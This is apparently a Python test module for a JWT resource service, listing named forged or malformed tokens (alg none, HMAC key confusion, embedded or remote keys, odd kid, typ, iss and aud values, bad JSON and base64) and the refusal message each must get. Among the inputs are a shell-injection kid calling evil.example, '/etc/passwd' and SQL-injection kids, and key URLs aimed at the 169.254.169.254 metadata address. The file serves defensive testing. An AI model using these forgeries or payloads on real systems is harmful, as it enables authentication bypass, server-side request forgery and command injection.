"""Forged and mangled tokens, one named row per attack, from RFC 8725, the OWASP JWT cheat sheet
and published JWT CVEs.

Each row builds its token from a `Forger` (the issuer's real header, claims and key) and names
the rule that must refuse it: the `TokenError` description of `resource_service/jose.py` that
reaches the client, with `{typ}` standing for the typ the endpoint expects. The same rows serve
against a replica (access tokens), the issuer's /logout, /revoke and /introspect, and the
refresh grant (refresh tokens): only the forger and the wrapping of the error differ.
"""

from __future__ import annotations

import hashlib
import hmac
import json
import time
from collections.abc import Callable
from dataclasses import dataclass

from cryptography.hazmat.primitives import hashes, serialization
from jwt.algorithms import RSAAlgorithm, get_default_algorithms

from tests.attack.forge import (
    DROP,
    Forger,
    attacker_certificate,
    attacker_ec,
    attacker_ed25519,
    attacker_rsa,
    b64,
    dumps,
    sign,
    unb64,
)

Build = Callable[[Forger], str]


@dataclass(frozen=True)
class Attack:
    build: Build
    refusal: str  # the description of the rule that refuses it; "{typ}" is the expected typ

    def description(self, typ: str) -> str:
        return self.refusal.replace("{typ}", typ)


UNSUPPORTED_ALG = "token alg is not supported"
ALG_MISMATCH = "token alg does not match its key"
NO_KID = "token header has no kid"
UNKNOWN_KID = "token is signed by an unknown key"
BAD_SIGNATURE = "token signature is invalid"
NOT_THREE = "token is not three base64url segments"
NOT_CANONICAL = "token is not canonical base64url"
WRONG_TYP = "token typ must be {typ}"
WRONG_ISSUER = "token was not issued by the expected issuer"
WRONG_AUDIENCE = "token is not meant for this audience"
BAD_AUD = "aud must be a string or a list of strings"
DUPLICATE = "token JSON has duplicate member names"
NON_STANDARD_NUMBER = "token JSON has a non-standard number"
HEADER_NOT_JSON = "token header is not UTF-8 JSON"
PAYLOAD_NOT_JSON = "token payload is not UTF-8 JSON"
PAYLOAD_NOT_OBJECT = "token payload is not a JSON object"
CRIT = "critical header extensions are not supported"


def _now() -> int:
    return int(time.time())


# -- builders ------------------------------------------------------------------------------


def _unsigned_alg(alg: str) -> Build:
    return lambda f: f"{b64(f.header_bytes(alg=alg))}.{b64(f.payload_bytes())}."


def _real_signature_alg(alg: object) -> Build:
    """The header names `alg`, the signature is the issuer's real one over this very input:
    a verifier that let the token choose would have nothing left to object to."""
    return lambda f: f.raw(f.header_bytes(alg=alg), f.payload_bytes())


def _hmac(secret: Callable[[Forger], bytes], alg: str = "HS256", **header: object) -> Build:
    digest = {"HS256": hashlib.sha256, "HS384": hashlib.sha384, "HS512": hashlib.sha512}[alg]

    def build(f: Forger) -> str:
        signing_input = f"{b64(f.header_bytes(alg=alg, **header))}.{b64(f.payload_bytes())}"
        return f"{signing_input}.{b64(hmac.new(secret(f), signing_input.encode(), digest).digest())}"

    return build


def _public(f: Forger, encoding: serialization.Encoding, fmt: serialization.PublicFormat) -> bytes:
    return f.private.public_key().public_bytes(encoding, fmt)  # type: ignore[no-any-return]


def _public_jwk(f: Forger) -> dict[str, object]:
    return {**RSAAlgorithm.to_jwk(f.private.public_key(), as_dict=True), "kid": f.kid, "alg": f.alg, "use": "sig"}


def _by_attacker(alg: str, key: Callable[[], object], **header: object) -> Build:
    return lambda f: sign(f.header_bytes(alg=alg, **header), f.payload_bytes(), alg, key())


def _attacker_jwk(**extra: object) -> dict[str, object]:
    return {**RSAAlgorithm.to_jwk(attacker_rsa().public_key(), as_dict=True), **extra}


def _header(**changes: object) -> Build:
    return lambda f: f.token(header=dict(changes))


def _claims(**changes: Callable[[Forger], object] | object) -> Build:
    """Signed by the issuer, with claims changed; a callable value is computed from the forger."""
    return lambda f: f.token(**{k: v(f) if callable(v) else v for k, v in changes.items()})


def _raw_payload(payload: Callable[[Forger], bytes]) -> Build:
    return lambda f: f.raw(f.header_bytes(), payload(f))


def _raw_header(header: Callable[[Forger], bytes]) -> Build:
    return lambda f: f.raw(header(f), f.payload_bytes())


def _claims_raw(f: Forger, **replace: bytes) -> bytes:
    """The claims as JSON with the value of each named claim replaced by these raw bytes."""
    payload = dumps(f.payload(**{name: f"@{name}@" for name in replace}))
    for name, raw in replace.items():
        payload = payload.replace(f'"@{name}@"'.encode(), raw)
    return payload


def _append_member(f: Forger, raw: str) -> bytes:
    return dumps(f.payload())[:-1] + f",{raw}}}".encode()


def _segments(change: Callable[[list[str]], list[str]], *, resign: bool = False) -> Build:
    """The issuer's token with its segments rewritten (and signed again over the result)."""

    def build(f: Forger) -> str:
        parts = change(f.token().split("."))
        if resign:
            signing_input = f"{parts[0]}.{parts[1]}"
            parts[2] = b64(get_default_algorithms()[f.alg].sign(signing_input.encode(), f.private))
        return ".".join(parts)

    return build


def _non_canonical(segment: str) -> str:
    alphabet = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_"
    assert len(segment) % 4 in (2, 3), "the last character must carry unused bits"
    return segment[:-1] + alphabet[alphabet.index(segment[-1]) + 1]


def _4n1(segment: str) -> str:
    """A segment lengthened to 4n+1 characters: no base64 spelling of any bytes has that length."""
    return segment + "A" * ((1 - len(segment)) % 4)


def _standard_alphabet(token: str) -> str:
    swapped = token.replace("-", "+").replace("_", "/")
    assert swapped != token, "no - or _ to swap"
    return swapped


def _transplant(f: Forger) -> str:
    """Claims escalated, under the signature of a token the issuer really signed."""
    genuine = f.token().split(".")
    forged = f"{b64(f.header_bytes())}.{b64(f.payload_bytes(scope='admin reports:read'))}"
    return f"{forged}.{genuine[2]}"


def _tampered(f: Forger) -> str:
    header, payload, signature = f.token().split(".")
    claims = json.loads(unb64(payload))
    return f"{header}.{b64(dumps({**claims, 'scope': 'admin'}))}.{signature}"


def _signature(change: Callable[[bytes], bytes]) -> Build:
    def build(f: Forger) -> str:
        header, payload, signature = f.token().split(".")
        return f"{header}.{payload}.{b64(change(unb64(signature)))}"

    return build


def _id_token(f: Forger) -> str:
    return f.token(
        header={"typ": "JWT"},
        aud=f.claims["client_id"],
        nonce="n-0S6_WzA2Mj",
        at_hash="HK6E_P6Dh8Y93mRNtsDB1Q",
        auth_time=_now(),
    )


def _other_typ(f: Forger) -> str:
    return f.token(header={"typ": "rt+jwt" if f.typ == "at+jwt" else "at+jwt"})


def _nested(opening: str, closing: str, depth: int = 2500) -> bytes:
    return (opening * depth + closing * depth).encode()


# -- the table -----------------------------------------------------------------------------

PEM = serialization.Encoding.PEM
SPKI = serialization.PublicFormat.SubjectPublicKeyInfo

HOSTILE: dict[str, Attack] = {
    # RFC 8725 section 2.1 / 3.1: the algorithm comes from the key, never from the token.
    **{
        f"alg {v}, signature left empty (CVE-2015-9235)": Attack(_unsigned_alg(v), NOT_THREE)
        for v in ("none", "None", "NONE", "nOnE")
    },
    **{
        f"alg {v} over the issuer's real signature": Attack(_real_signature_alg(v), UNSUPPORTED_ALG)
        for v in ("none", "None", "NONE", "nOnE")
    },
    "alg HS256 keyed with the RSA public key PEM (CVE-2016-10555)": Attack(
        _hmac(lambda f: _public(f, PEM, SPKI)), UNSUPPORTED_ALG
    ),
    "alg HS256 keyed with the PKCS#1 public key PEM (CVE-2017-11424)": Attack(
        _hmac(lambda f: _public(f, PEM, serialization.PublicFormat.PKCS1)), UNSUPPORTED_ALG
    ),
    "alg HS256 keyed with the public key in OpenSSH format (CVE-2022-29217)": Attack(
        _hmac(lambda f: _public(f, serialization.Encoding.OpenSSH, serialization.PublicFormat.OpenSSH)), UNSUPPORTED_ALG
    ),
    "alg HS256 keyed with the public key PEM behind whitespace (CVE-2023-48223)": Attack(
        _hmac(lambda f: b"  " + _public(f, PEM, SPKI)), UNSUPPORTED_ALG
    ),
    "alg HS256 keyed with the PEM without its final newline": Attack(
        _hmac(lambda f: _public(f, PEM, SPKI).rstrip(b"\n")), UNSUPPORTED_ALG
    ),
    "alg HS256 keyed with the public key DER": Attack(
        _hmac(lambda f: _public(f, serialization.Encoding.DER, SPKI)), UNSUPPORTED_ALG
    ),
    "alg HS256 keyed with the published JWK as JSON": Attack(
        _hmac(lambda f: json.dumps(_public_jwk(f)).encode()), UNSUPPORTED_ALG
    ),
    "alg HS256 keyed with the empty string": Attack(_hmac(lambda f: b""), UNSUPPORTED_ALG),
    "alg HS384 keyed with the RSA public key PEM": Attack(
        _hmac(lambda f: _public(f, PEM, SPKI), "HS384"), UNSUPPORTED_ALG
    ),
    "alg HS512 keyed with the RSA public key PEM": Attack(
        _hmac(lambda f: _public(f, PEM, SPKI), "HS512"), UNSUPPORTED_ALG
    ),
    "alg PS256 signed by the issuer's own RSA key": Attack(
        lambda f: f.raw(f.header_bytes(alg="PS256"), f.payload_bytes(), alg="PS256"), UNSUPPORTED_ALG
    ),
    "alg RS512 signed by the issuer's own RSA key": Attack(
        lambda f: f.raw(f.header_bytes(alg="RS512"), f.payload_bytes(), alg="RS512"), UNSUPPORTED_ALG
    ),
    "alg ES256 under the issuer's kid, signed by the attacker": Attack(
        _by_attacker("ES256", attacker_ec), ALG_MISMATCH
    ),
    "alg EdDSA under the issuer's kid, signed by the attacker": Attack(
        _by_attacker("EdDSA", attacker_ed25519), ALG_MISMATCH
    ),
    "alg Ed25519 (RFC 9864) under the issuer's kid, signed by the attacker": Attack(
        # PyJWT signs Ed25519 only under the name EdDSA: the header bytes name it Ed25519.
        lambda f: sign(f.header_bytes(alg="Ed25519"), f.payload_bytes(), "EdDSA", attacker_ed25519()),
        ALG_MISMATCH,
    ),
    "alg rs256 in lower case over the issuer's real signature": Attack(_real_signature_alg("rs256"), UNSUPPORTED_ALG),
    "alg with a trailing space over the issuer's real signature": Attack(
        _real_signature_alg("RS256 "), UNSUPPORTED_ALG
    ),
    "alg as a list over the issuer's real signature": Attack(_real_signature_alg(["RS256"]), UNSUPPORTED_ALG),
    "alg null over the issuer's real signature": Attack(_real_signature_alg(None), UNSUPPORTED_ALG),
    "alg missing over the issuer's real signature": Attack(_real_signature_alg(DROP), UNSUPPORTED_ALG),
    # RFC 8725 section 3.10 and CVE-2018-0114: keys named or carried by the token are not trusted.
    "jwk header with the attacker's key, signed by it (CVE-2018-0114)": Attack(
        _by_attacker("RS256", attacker_rsa, jwk=_attacker_jwk()), "embedded keys are not accepted"
    ),
    "jwk header with the attacker's key and no kid, signed by it": Attack(
        _by_attacker("RS256", attacker_rsa, kid=DROP, jwk=_attacker_jwk()), "embedded keys are not accepted"
    ),
    "jwk header with the issuer's own key, signed by the issuer": Attack(
        lambda f: f.token(header={"jwk": _public_jwk(f)}), "embedded keys are not accepted"
    ),
    "jku to the attacker's key set (SSRF bait)": Attack(
        _by_attacker("RS256", attacker_rsa, jku="http://169.254.169.254/jwks.json"),
        "key URLs in the token are not accepted",
    ),
    "jku to the issuer's own JWKS, signed by the issuer": Attack(
        lambda f: f.token(header={"jku": f"{f.claims['iss']}/.well-known/jwks.json"}),
        "key URLs in the token are not accepted",
    ),
    "x5u to the attacker's certificate": Attack(
        _by_attacker("RS256", attacker_rsa, x5u="https://evil.example/cert.pem"),
        "certificate URLs in the token are not accepted",
    ),
    "x5c with the attacker's self-signed certificate, signed by its key": Attack(
        lambda f: sign(
            f.header_bytes(x5c=[b64(attacker_certificate().public_bytes(serialization.Encoding.DER))]),
            f.payload_bytes(),
            "RS256",
            attacker_rsa(),
        ),
        "embedded certificates are not accepted",
    ),
    "x5t of the attacker's certificate under the issuer's kid, signed by the attacker": Attack(
        lambda f: sign(
            f.header_bytes(x5t=b64(attacker_certificate().fingerprint(hashes.SHA1()))),
            f.payload_bytes(),
            "RS256",
            attacker_rsa(),
        ),
        BAD_SIGNATURE,
    ),
    "x5t#S256 of the attacker's certificate in place of a kid": Attack(
        lambda f: sign(
            f.header_bytes(kid=DROP, **{"x5t#S256": b64(attacker_certificate().fingerprint(hashes.SHA256()))}),
            f.payload_bytes(),
            "RS256",
            attacker_rsa(),
        ),
        NO_KID,
    ),
    # RFC 7515 section 4.1.11: a critical extension we do not understand refuses the token.
    "crit naming exp": Attack(_header(crit=["exp"], exp=0), CRIT),
    "crit naming an unknown extension": Attack(_header(crit=["x-ours"], **{"x-ours": True}), CRIT),
    "crit b64 false, an unencoded payload (RFC 7797)": Attack(_header(crit=["b64"], b64=False), CRIT),
    "crit as an empty list": Attack(_header(crit=[]), CRIT),
    "zip DEF, a compressed payload (JWT bomb, CVE-2024-33664)": Attack(
        _header(zip="DEF"), "compressed payloads are not supported"
    ),
    "cty JWT, a nested token": Attack(_header(cty="JWT"), "nested tokens are not supported"),
    # kid is a lookup key, never a path or a query: every odd one is just unknown.
    "kid path traversal to /dev/null": Attack(_header(kid="../../../../../../dev/null"), UNKNOWN_KID),
    "kid path traversal to the issuer's key file": Attack(
        lambda f: f.token(header={"kid": f"../keys/{f.kid}"}), UNKNOWN_KID
    ),
    "kid absolute path": Attack(_header(kid="/etc/passwd"), UNKNOWN_KID),
    "kid SQL injection": Attack(_header(kid="x' OR '1'='1"), UNKNOWN_KID),
    "kid UNION SELECT of a known secret": Attack(_header(kid="x' UNION SELECT 'secret' --"), UNKNOWN_KID),
    "kid shell injection": Attack(_header(kid="$(curl evil.example)|id;"), UNKNOWN_KID),
    "kid with a NUL byte after the issuer's kid": Attack(
        lambda f: f.token(header={"kid": f.kid + "\x00"}), UNKNOWN_KID
    ),
    "kid URL (SSRF bait)": Attack(_header(kid="http://169.254.169.254/latest/meta-data/"), UNKNOWN_KID),
    "kid of 4000 characters": Attack(_header(kid="k" * 4000), UNKNOWN_KID),
    "kid of the issuer with a trailing space": Attack(lambda f: f.token(header={"kid": f.kid + " "}), UNKNOWN_KID),
    "kid of the issuer in another case": Attack(lambda f: f.token(header={"kid": f.kid.swapcase()}), UNKNOWN_KID),
    "kid empty": Attack(_header(kid=""), UNKNOWN_KID),
    "kid as a number": Attack(_header(kid=1), NO_KID),
    "kid null": Attack(_header(kid=None), NO_KID),
    "kid as a list holding the issuer's kid": Attack(lambda f: f.token(header={"kid": [f.kid]}), NO_KID),
    "kid as an object": Attack(_header(kid={"$ne": ""}), NO_KID),
    "kid missing": Attack(_header(kid=DROP), NO_KID),
    "alg HS256 with kid /dev/null keyed with the empty string": Attack(
        _hmac(lambda f: b"", kid="../../../../../../dev/null"), UNSUPPORTED_ALG
    ),
    # RFC 8725 section 3.11 and RFC 9068 section 4: explicit typing against cross-JWT confusion.
    "typ JWT, a generic JWT": Attack(_header(typ="JWT"), WRONG_TYP),
    "typ missing": Attack(_header(typ=DROP), WRONG_TYP),
    "typ of the other kind of our tokens": Attack(_other_typ, WRONG_TYP),
    "typ application/jwt": Attack(_header(typ="application/jwt"), WRONG_TYP),
    "typ with a trailing space": Attack(lambda f: f.token(header={"typ": f.typ + " "}), WRONG_TYP),
    "typ with a NUL byte": Attack(lambda f: f.token(header={"typ": f.typ + "\x00"}), WRONG_TYP),
    "typ under another media type": Attack(lambda f: f.token(header={"typ": "text/" + f.typ}), WRONG_TYP),
    "typ with application/ twice": Attack(
        lambda f: f.token(header={"typ": "application/application/" + f.typ}), WRONG_TYP
    ),
    "typ secevent+jwt, a security event token": Attack(_header(typ="secevent+jwt"), WRONG_TYP),
    "typ dpop+jwt, a DPoP proof": Attack(_header(typ="dpop+jwt"), WRONG_TYP),
    "typ as a number": Attack(_header(typ=1), WRONG_TYP),
    "typ as a list": Attack(lambda f: f.token(header={"typ": [f.typ]}), WRONG_TYP),
    "an ID token: typ JWT, aud the client, nonce and at_hash": Attack(_id_token, WRONG_TYP),
    # RFC 8725 sections 3.8 and 3.9: issuer and audience match exactly.
    "iss of another issuer": Attack(_claims(iss="https://evil.example"), WRONG_ISSUER),
    "iss with a trailing slash": Attack(_claims(iss=lambda f: f.claims["iss"] + "/"), WRONG_ISSUER),
    "iss in upper case": Attack(_claims(iss=lambda f: f.claims["iss"].upper()), WRONG_ISSUER),
    "iss naming localhost for 127.0.0.1": Attack(
        _claims(iss=lambda f: f.claims["iss"].replace("127.0.0.1", "localhost")), WRONG_ISSUER
    ),
    "iss with ours as a prefix": Attack(_claims(iss=lambda f: f.claims["iss"] + ".evil.example"), WRONG_ISSUER),
    "iss with a path": Attack(_claims(iss=lambda f: f.claims["iss"] + "/tenant"), WRONG_ISSUER),
    "iss missing": Attack(_claims(iss=DROP), "token has no iss claim"),
    "iss as a list holding ours": Attack(_claims(iss=lambda f: [f.claims["iss"]]), "iss must be a string"),
    "iss null": Attack(_claims(iss=None), "iss must be a string"),
    "aud of another API": Attack(_claims(aud="billing-api"), WRONG_AUDIENCE),
    "aud of the other kind of our tokens": Attack(
        _claims(aud=lambda f: "api" if f.claims["aud"] != "api" else f.claims["iss"]), WRONG_AUDIENCE
    ),
    "aud in upper case": Attack(_claims(aud=lambda f: f.claims["aud"].upper()), WRONG_AUDIENCE),
    "aud with a trailing space": Attack(_claims(aud=lambda f: f.claims["aud"] + " "), WRONG_AUDIENCE),
    "aud list without ours": Attack(_claims(aud=["billing-api", "admin-api"]), WRONG_AUDIENCE),
    "aud empty list": Attack(_claims(aud=[]), WRONG_AUDIENCE),
    "aud list holding ours and a number": Attack(_claims(aud=lambda f: [f.claims["aud"], 1]), BAD_AUD),
    "aud as an object": Attack(_claims(aud=lambda f: {f.claims["aud"]: True}), BAD_AUD),
    "aud null": Attack(_claims(aud=None), BAD_AUD),
    "aud missing": Attack(_claims(aud=DROP), "token has no aud claim"),
    # Time claims (RFC 7519 section 4.1.4-4.1.6): numbers of seconds, checked with a small leeway.
    "expired an hour ago": Attack(
        _claims(exp=lambda f: _now() - 3600, iat=lambda f: _now() - 4500), "token has expired"
    ),
    "expired just beyond the leeway": Attack(_claims(exp=lambda f: _now() - 45), "token has expired"),
    "nbf an hour ahead": Attack(_claims(nbf=lambda f: _now() + 3600), "token is not valid yet"),
    "iat an hour ahead": Attack(
        _claims(iat=lambda f: _now() + 3600, exp=lambda f: _now() + 7200), "token was issued in the future"
    ),
    "exp as a string": Attack(_claims(exp=lambda f: str(f.claims["exp"])), "exp must be a NumericDate"),
    "iat as a string": Attack(_claims(iat=lambda f: str(f.claims["iat"])), "iat must be a NumericDate"),
    "nbf as a string": Attack(_claims(nbf=lambda f: str(f.claims["iat"])), "nbf must be a NumericDate"),
    "exp true": Attack(_claims(exp=True), "exp must be a NumericDate"),
    "iat false": Attack(_claims(iat=False), "iat must be a NumericDate"),
    "exp null": Attack(_claims(exp=None), "exp must be a NumericDate"),
    "exp as an object": Attack(_claims(exp={"$gt": 0}), "exp must be a NumericDate"),
    "exp as a list": Attack(_claims(exp=lambda f: [f.claims["exp"]]), "exp must be a NumericDate"),
    "exp negative": Attack(_claims(exp=-1), "exp must be a NumericDate"),
    "exp 10**30": Attack(_claims(exp=10**30), "exp must be a NumericDate"),
    "exp 2**53 + 1, past exact JSON integers": Attack(_claims(exp=2**53 + 1), "exp must be a NumericDate"),
    "exp 1e400, infinity by overflow": Attack(
        _raw_payload(lambda f: _claims_raw(f, exp=b"1e400")), "exp must be a NumericDate"
    ),
    "exp NaN": Attack(_raw_payload(lambda f: _claims_raw(f, exp=b"NaN")), NON_STANDARD_NUMBER),
    "exp Infinity": Attack(_raw_payload(lambda f: _claims_raw(f, exp=b"Infinity")), NON_STANDARD_NUMBER),
    "nbf -Infinity": Attack(_raw_payload(lambda f: _claims_raw(f, nbf=b"-Infinity")), NON_STANDARD_NUMBER),
    "exp of 5000 digits (int parsing, CVE-2020-10735)": Attack(
        _raw_payload(lambda f: _claims_raw(f, exp=b"9" * 5000)), PAYLOAD_NOT_JSON
    ),
    "exp missing": Attack(_claims(exp=DROP), "token has no exp claim"),
    "iat missing": Attack(_claims(iat=DROP), "token has no iat claim"),
    # RFC 8725 section 3.1 / RFC 7515 section 5.2: duplicate members are refused, not resolved.
    "header with alg twice, none last": Attack(
        _raw_header(lambda f: f.header_bytes()[:-1] + b',"alg":"none"}'), DUPLICATE
    ),
    "header with alg twice, none first": Attack(
        _raw_header(lambda f: b'{"alg":"none",' + f.header_bytes()[1:]), DUPLICATE
    ),
    "header with kid twice": Attack(_raw_header(lambda f: f.header_bytes()[:-1] + b',"kid":"other"}'), DUPLICATE),
    "header with typ twice, JWT last": Attack(
        _raw_header(lambda f: f.header_bytes()[:-1] + b',"typ":"JWT"}'), DUPLICATE
    ),
    "claims with sub twice": Attack(_raw_payload(lambda f: _append_member(f, '"sub":"admin"')), DUPLICATE),
    "claims with aud twice": Attack(_raw_payload(lambda f: _append_member(f, '"aud":"billing-api"')), DUPLICATE),
    "claims with exp twice": Attack(_raw_payload(lambda f: _append_member(f, '"exp":9999999999')), DUPLICATE),
    "claims with scope twice, once by an escaped name": Attack(
        _raw_payload(lambda f: _append_member(f, '"sc\\u006fpe":"admin"')), DUPLICATE
    ),
    # RFC 7519 section 7.2: UTF-8 JSON objects only.
    "payload not UTF-8": Attack(_raw_payload(lambda f: _claims_raw(f, sub=b'"\xff\xfe"')), PAYLOAD_NOT_JSON),
    "payload with an overlong UTF-8 sequence": Attack(
        _raw_payload(lambda f: _claims_raw(f, sub=b'"\xc0\xaf"')), PAYLOAD_NOT_JSON
    ),
    "payload with a UTF-8-encoded surrogate (CESU-8)": Attack(
        _raw_payload(lambda f: _claims_raw(f, sub=b'"\xed\xa0\x80"')), PAYLOAD_NOT_JSON
    ),
    # A \ud800 escape is ASCII, but decodes to a string no UTF-8 can carry (RFC 8259 section 8.2,
    # RFC 7493 section 2.1): it must be refused like bad bytes, not crash whatever encodes it next.
    "payload with a lone surrogate escape": Attack(
        _raw_payload(lambda f: _claims_raw(f, sub=b'"\\ud800"')), PAYLOAD_NOT_JSON
    ),
    "header with a lone surrogate escape as the kid": Attack(
        _raw_header(lambda f: f.header_bytes(kid="@").replace(b'"@"', b'"\\udc80"')), HEADER_NOT_JSON
    ),
    "header not UTF-8": Attack(
        _raw_header(lambda f: f.header_bytes(x="@").replace(b'"@"', b'"\xff"')), HEADER_NOT_JSON
    ),
    "payload with a UTF-8 BOM": Attack(_raw_payload(lambda f: b"\xef\xbb\xbf" + dumps(f.payload())), PAYLOAD_NOT_JSON),
    "header with a UTF-8 BOM": Attack(_raw_header(lambda f: b"\xef\xbb\xbf" + f.header_bytes()), HEADER_NOT_JSON),
    "payload with data after the object": Attack(
        _raw_payload(lambda f: dumps(f.payload()) + b'{"sub":"admin"}'), PAYLOAD_NOT_JSON
    ),
    "payload in single-quoted JSON5": Attack(
        _raw_payload(lambda f: dumps(f.payload()).replace(b'"', b"'")), PAYLOAD_NOT_JSON
    ),
    "payload is a JSON array": Attack(_raw_payload(lambda f: dumps([f.payload()])), PAYLOAD_NOT_OBJECT),
    "payload is a JSON number": Attack(_raw_payload(lambda f: b"1700000000"), PAYLOAD_NOT_OBJECT),
    "payload is a JSON string": Attack(_raw_payload(lambda f: b'"admin"'), PAYLOAD_NOT_OBJECT),
    "payload is JSON null": Attack(_raw_payload(lambda f: b"null"), PAYLOAD_NOT_OBJECT),
    "header is a JSON array": Attack(
        _raw_header(lambda f: b"[" + f.header_bytes() + b"]"), "token header is not a JSON object"
    ),
    "header nested 2500 arrays deep (stack exhaustion)": Attack(
        _raw_header(lambda f: _nested("[", "]")), HEADER_NOT_JSON
    ),
    "a claim nested 2500 arrays deep": Attack(
        _raw_payload(lambda f: _claims_raw(f, sub=_nested("[", "]"))), PAYLOAD_NOT_JSON
    ),
    # RFC 7515 section 2 / RFC 4648 section 5: unpadded base64url, one spelling only.
    "signature padded with =": Attack(lambda f: f.token() + "==", NOT_THREE),
    "standard base64 alphabet (+ and /)": Attack(lambda f: _standard_alphabet(f.token()), NOT_THREE),
    "signature with a non-canonical last character": Attack(
        _segments(lambda p: [p[0], p[1], _non_canonical(p[2])]), NOT_CANONICAL
    ),
    "header segment of 4n+1 characters": Attack(_segments(lambda p: [_4n1(p[0]), p[1], p[2]]), NOT_CANONICAL),
    "payload segment of 4n+1 characters, signed again": Attack(
        _segments(lambda p: [p[0], _4n1(p[1]), p[2]], resign=True), NOT_CANONICAL
    ),
    # RFC 7515 section 7.1: exactly three segments, and a signature that verifies.
    "two segments, the signature dropped": Attack(lambda f: f.token().rsplit(".", 1)[0], NOT_THREE),
    "one segment": Attack(lambda f: f.token().split(".")[1], NOT_THREE),
    "four segments": Attack(lambda f: f.token() + ".AAAA", NOT_THREE),
    "five segments, a JWE": Attack(
        lambda f: ".".join([b64(b'{"alg":"dir","enc":"A128GCM"}'), "", "AAAA", f.token().split(".")[1], "AAAA"]),
        NOT_THREE,
    ),
    "empty payload segment": Attack(_segments(lambda p: [p[0], "", p[2]]), NOT_THREE),
    "only dots": Attack(lambda f: "..", NOT_THREE),
    "empty signature (CVE-2020-28042)": Attack(lambda f: f.token().rsplit(".", 1)[0] + ".", NOT_THREE),
    "signature of another token over escalated claims": Attack(_transplant, BAD_SIGNATURE),
    "claims escalated under the original signature": Attack(_tampered, BAD_SIGNATURE),
    "signature one byte short": Attack(_signature(lambda s: s[:-1]), BAD_SIGNATURE),
    "signature one byte long": Attack(_signature(lambda s: s + b"\x00"), BAD_SIGNATURE),
    "signature of zeros": Attack(_signature(lambda s: bytes(len(s))), BAD_SIGNATURE),
    "signature of one byte": Attack(_signature(lambda s: s[:1]), BAD_SIGNATURE),
    "signed by the attacker's RSA key under the issuer's kid": Attack(
        _by_attacker("RS256", attacker_rsa), BAD_SIGNATURE
    ),
}
